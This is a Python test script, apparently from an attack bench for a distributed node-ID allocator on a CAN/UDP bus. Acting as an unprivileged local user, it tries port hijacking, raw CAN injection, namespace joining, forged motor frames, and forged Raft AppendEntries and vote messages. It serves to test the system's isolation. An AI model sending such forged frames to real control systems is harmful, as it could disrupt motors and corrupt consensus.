"""What a local user without rights can do to allocators that run on this machine. For bench/attack and
packaging/try_package, which start it as another user; each try prints a word or a count.

strangers.py hear BASE PORT_ID SECONDS         listens at a port that nobody has: "N heard"
strangers.py bind BASE MEMBER SECONDS          takes the port of a member: "taken", or "nothing came", or "N came"
strangers.py can INTERFACE                     opens a raw CAN socket and sends: "sent", or "gone"
strangers.py join NAMESPACE                    joins the network namespace: "joined", or "refused"
strangers.py bridge BASE MEMBER                gives the bridge frames for motors and frames of a member: "sent"
strangers.py split BASE A B TERM PREVIOUS PLACE NODE UNIQUE_ID UNIQUE_ID
    tells the members A and B, as each other, two different entries for one node ID, behind the entry at this place of
    this term, in the next term after TERM: "sent"
strangers.py vote BASE MEMBER TERM OTHER..     gives a member the votes of others for this term and the next: "sent"
"""
from __future__ import annotations

import ctypes
import errno
import os
import socket
import struct
import sys
import time
from typing import Callable

APPEND_ENTRIES, REQUEST_VOTE, ALLOCATION = 30, 31, 1
SIGNATURES = {APPEND_ENTRIES: 0x8032C7097B48A3CC, REQUEST_VOTE: 0xCDDE07BB89A56356, ALLOCATION: 0x0B2A812620A11D40}
MOTOR = 0x0804060A  # a frame for motor controllers
CLONE_NEWNET = 0x40000000


def crc(data: bytes, value: int = 0xFFFF) -> int:
    for byte in data:
        value ^= byte << 8
        for _ in range(8):
            value = (value << 1 ^ 0x1021 if value & 0x8000 else value << 1) & 0xFFFF
    return value


def datagrams(identifier: int, payload: bytes, transfer: int, kind: int) -> list[bytes]:
    """The frames of a transfer as datagrams."""
    if len(payload) > 7:
        payload = crc(SIGNATURES[kind].to_bytes(8, "little") + payload).to_bytes(2, "little") + payload
    pieces = [payload[at:at + 7] for at in range(0, len(payload), 7)] or [b""]
    found = []
    for place, piece in enumerate(pieces):
        is_last = place == len(pieces) - 1
        tail = (place == 0) << 7 | is_last << 6 | (place % 2) << 5 | transfer & 31
        data = piece + bytes([tail])
        found.append(identifier.to_bytes(4, "big") + bytes([len(data)]) + data)
    return found


def service(kind: int, is_request: bool, destination: int, source: int) -> int:
    return 30 << 24 | kind << 16 | is_request << 15 | destination << 8 | 1 << 7 | source


def udp() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def send(port: int, frames: list[bytes]) -> None:
    with udp() as link:
        for frame in frames:
            link.sendto(frame, ("127.0.0.1", port))


def count(base: int, node: int, seconds: float) -> int:
    """How many datagrams come to the port of this node."""
    with udp() as link:
        link.bind(("127.0.0.1", base + node))
        end, came = time.monotonic() + seconds, 0
        while (left := end - time.monotonic()) > 0:
            link.settimeout(left)
            try:
                link.recv(64)
                came += 1
            except socket.timeout:
                break
    return came


def hear(base: int, node: int, seconds: int) -> str:
    return f"{count(base, node, seconds)} heard"


def bind(base: int, member: int, seconds: int) -> str:
    try:
        came = count(base, member, seconds)
    except OSError:
        return "taken"
    return f"{came} came" if came else "nothing came"


def can(interface: str) -> str:
    try:
        with socket.socket(socket.AF_CAN, socket.SOCK_RAW, socket.CAN_RAW) as link:
            link.bind((interface,))
            link.send(struct.pack("=IB3x8s", 0x80000000 | 30 << 24 | 341 << 8 | 1, 8, bytes(7) + b"\xc0"))
    except OSError as error:
        return "gone" if error.errno == errno.ENODEV else f"gone: {error.strerror}"
    return "sent"


def join(namespace: str) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        with open(f"/run/netns/{namespace}", "rb") as there:
            if libc.setns(there.fileno(), CLONE_NEWNET) == 0:
                return "joined"
    except OSError:
        pass
    return "refused"


def bridge(base: int, member: int) -> str:
    answer = datagrams(30 << 24 | ALLOCATION << 8 | member, bytes([77 << 1]) + bytes(range(16)), 29, ALLOCATION)
    send(base + 119, datagrams(MOTOR, b"\xff" * 7, 0, 0) + answer)
    return "sent"


def split(base: int, a: int, b: int, term: int, previous: int, place: int, node: int, *unique_ids: str) -> str:
    for again in range(2):
        for to, source, unique_id in ((a, b, unique_ids[0]), (b, a, unique_ids[1])):
            entry = struct.pack("<I", term + 1) + bytes.fromhex(unique_id) + bytes([node])
            payload = struct.pack("<IIBB", term + 1, previous, place, place + 1) + entry
            identifier = service(APPEND_ENTRIES, True, to, source)
            send(base + to, datagrams(identifier, payload, 17 + again, APPEND_ENTRIES))
    return "sent"


def vote(base: int, member: int, term: int, *others: int) -> str:
    for given in (term, term + 1):
        for other in others:
            for transfer in range(32):
                identifier = service(REQUEST_VOTE, False, member, other)
                payload = struct.pack("<I", given) + b"\x80"
                send(base + member, datagrams(identifier, payload, transfer, REQUEST_VOTE))
    return "sent"


def main() -> None:
    tries: list[Callable[..., str]] = [hear, bind, can, join, bridge, split, vote]
    name, *words = sys.argv[1:]
    values = [int(word) if word.isdigit() and len(word) < 8 else word for word in words]
    assert os.getuid() != 0, "a stranger has no rights"
    print(next(one for one in tries if one.__name__ == name)(*values))


if __name__ == "__main__":
    main()
